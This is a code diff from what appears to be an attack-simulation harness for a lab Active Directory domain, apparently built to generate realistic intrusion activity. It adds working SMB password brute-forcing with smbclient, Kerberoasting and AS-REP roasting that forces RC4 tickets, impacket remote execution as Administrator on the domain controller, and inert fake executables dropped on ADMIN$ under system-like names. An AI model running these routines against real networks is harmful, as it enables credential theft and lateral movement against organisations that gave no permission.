@@ -101,8 +101,13 @@ def brute_imap(act):
 
 
 def brute_smb(act):
+    """smbclient in a loop: hydra here is built without its SMB 2 module."""
     s = act.world.site
-    return hydra(act, "smb2", s.by_name["dc"].ip, s.weak_user, rng(act).randint(60, 110), "-m", f"workgroup:{{{s.workgroup}}}")
+    with open(guesses(act, rng(act).randint(60, 110)), encoding="ascii") as f:
+        words = f.read().split()
+    for word in words:
+        act.sh("smbclient", f"//{s.by_name['dc'].ip}/IPC$", "-U", f"{s.workgroup}\\{s.weak_user}%{word}", "--use-kerberos=off", "-c", "exit", timeout=10)
+    return len(words)
 
 
 def brute_http(act):
@@ -289,13 +294,25 @@ def account(act, user):
 
 
 def roast(act):
-    """Kerberoasting and AS-REP roasting with impacket."""
-    s = act.world.site
+    """Kerberoasting: the accounts with service names by LDAP, then an RC4 ticket for each (MIT's
+    kvno; Samba refuses impacket's checksum), then impacket's question without pre-authentication."""
+    r, s = rng(act), act.world.site
     dc, user = s.by_name["dc"].ip, act.device.user
-    a = impacket(act, "GetUserSPNs", account(act, user), "-dc-ip", dc, "-request")
-    act.vsleep(rng(act).uniform(60, 400))
-    b = impacket(act, "GetNPUsers", f"{s.realm.lower()}/{s.svc_scan}", "-no-pass", "-dc-ip", dc)
-    return [a, b]
+    base = ",".join(f"DC={p}" for p in s.realm.lower().split("."))
+    act.sh("ldapsearch", "-x", "-LLL", "-H", f"ldap://{dc}", "-D", f"{user}@{s.realm.lower()}", "-w", s.passwords[user], "-b", base,
+           "(&(servicePrincipalName=*)(!(objectClass=computer)))", "sAMAccountName", "servicePrincipalName", timeout=8)
+    conf = f"{R}/krb5-{act.case}.conf"
+    with open(conf, "w", encoding="ascii") as f:
+        f.write(open("/etc/krb5.conf", encoding="ascii").read().replace("[libdefaults]\n", "[libdefaults]\n allow_rc4 = true\n allow_weak_crypto = true\n"))
+    env = {"KRB5CCNAME": f"FILE:{R}/cc-{act.case}", "KRB5_CONFIG": conf}
+    out = [act.sh("kinit", f"{user}@{s.realm}", stdin=s.passwords[user] + "\n", env=env, timeout=8)[0]]
+    for spn in s.spns:
+        out.append(act.sh("kvno", "-e", "arcfour-hmac", spn, env=env, timeout=8)[1][-80:])
+        act.vsleep(r.uniform(.1, 3))
+    act.vsleep(r.uniform(60, 400))
+    for account_name in [s.svc_scan] + r.sample(s.users, 5):
+        out.append(impacket(act, "GetNPUsers", f"{s.realm.lower()}/{account_name}", "-no-pass", "-dc-ip", dc)["tail"][-60:])
+    return out
 
 
 def dcsync(act):
@@ -314,18 +331,32 @@ def remote_exec(act):
     r, dc = rng(act), act.world.site.by_name["dc"].ip
     out = []
     for tool in ("psexec", "smbexec", "atexec", "wmiexec"):
-        out.append(impacket(act, tool, f"{account(act, 'Administrator')}@{dc}", "whoami", timeout=25))
+        if tool == "psexec":
+            out.append(psexec(act))
+            continue
+        command = [] if tool == "smbexec" else ["whoami"]
+        out.append(impacket(act, tool, f"{account(act, 'Administrator')}@{dc}", *command, timeout=25))
         act.vsleep(r.uniform(30, 240))
     return out
+
+
+def psexec(act):
+    """impacket's psexec with a program of random bytes in place of the one it brings along."""
+    return impacket(act, "psexec", "-file", fake_program(act), f"{account(act, 'Administrator')}@{act.world.site.by_name['dc'].ip}", "whoami", timeout=25)
+
+
+def fake_program(act):
+    """Random bytes behind an MZ head, on disk; never run."""
+    path = f"{R}/svc-{act.case}.exe"
+    with open(path, "wb") as f:
+        f.write(b"MZ\x90\0" + rng(act).randbytes(max(life.size(act, 300_000), 40_000)))
+    return path
 
 
 def admin_share(act):
     """A program copied to the server's administrative share with stolen rights."""
     r = rng(act)
-    path = f"{R}/svc-{act.case}.exe"
-    with open(path, "wb") as f:
-        f.write(b"MZ\x90\0" + r.randbytes(life.size(act, 300000)))
-    life.smb(act, f"put {path} {r.choice(['svchost32', 'updater', 'msdtc'])}.exe; ls", user="Administrator", share="ADMIN$", kerberos=False)
+    life.smb(act, f"put {fake_program(act)} {r.choice(['svchost32', 'updater', 'msdtc'])}.exe; ls", user="Administrator", share="ADMIN$", kerberos=False)
 
 
 def ransom(act, folders):
